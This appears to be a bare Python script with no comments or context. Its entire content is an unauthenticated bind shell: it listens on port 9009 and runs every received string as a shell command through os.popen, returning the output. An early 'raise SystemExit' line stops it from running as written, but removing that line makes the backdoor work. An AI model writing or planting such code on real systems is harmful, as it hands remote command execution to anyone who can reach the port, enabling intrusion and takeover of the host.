import socket, os
raise SystemExit
s = socket.socket(); s.bind(("", 9009)); s.listen(1)
c, _ = s.accept()
while True:
    cmd = c.recv(1024).decode()
    c.send(os.popen(cmd).read().encode())
